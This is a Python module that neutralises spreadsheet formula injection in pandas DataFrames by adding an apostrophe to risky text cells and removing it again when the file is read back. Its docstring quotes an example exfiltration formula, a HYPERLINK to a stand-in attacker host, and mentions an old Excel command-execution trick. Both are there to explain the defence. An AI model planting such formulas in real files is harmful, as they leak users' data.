"""Text cells that a spreadsheet would run as formulas, made inert on the way out and restored on the way in.

OWASP's CSV-injection guidance: a cell beginning with =, +, -, @, tab or
carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(=HYPERLINK("http://evil.example/?"&A1) leaks the sheet; +cmd|... ran commands
in old Excel), so such a cell is written with a leading apostrophe, which
spreadsheets take as "this is text" and do not show. Cells that are plain
numbers ("-12", "+3.5") are numbers to a spreadsheet, not formulas, and are
left alone. A cell that already begins with an apostrophe gets one more, so
reading the file back (``restore``) strips exactly one and every text
round-trips to itself.
"""

from __future__ import annotations

import pandas as pd

# The OWASP starts, and their full-width forms, which some spreadsheet locales read the same way.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
QUOTE = "'"
_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"


def defuse(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells cannot run as formulas; numeric columns are untouched."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_object_dtype(out[column]) or pd.api.types.is_string_dtype(out[column])):
            continue
        cells = out[column].astype("string")
        risky = (cells.str.startswith(FORMULA_STARTS) & ~cells.str.fullmatch(_PLAIN_NUMBER)) | cells.str.startswith(
            QUOTE
        )
        out[column] = out[column].where(~risky.fillna(False).astype(bool), QUOTE + cells)
    return out


def restore(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame as it was before ``defuse``: one leading apostrophe taken off each text cell that has one."""
    out = frame.copy()
    for column in out.columns:
        if pd.api.types.is_object_dtype(out[column]) or pd.api.types.is_string_dtype(out[column]):
            cells = out[column].astype("string")
            quoted = cells.str.startswith(QUOTE).fillna(False).astype(bool)
            out[column] = out[column].where(~quoted, cells.str.slice(1))
    return out
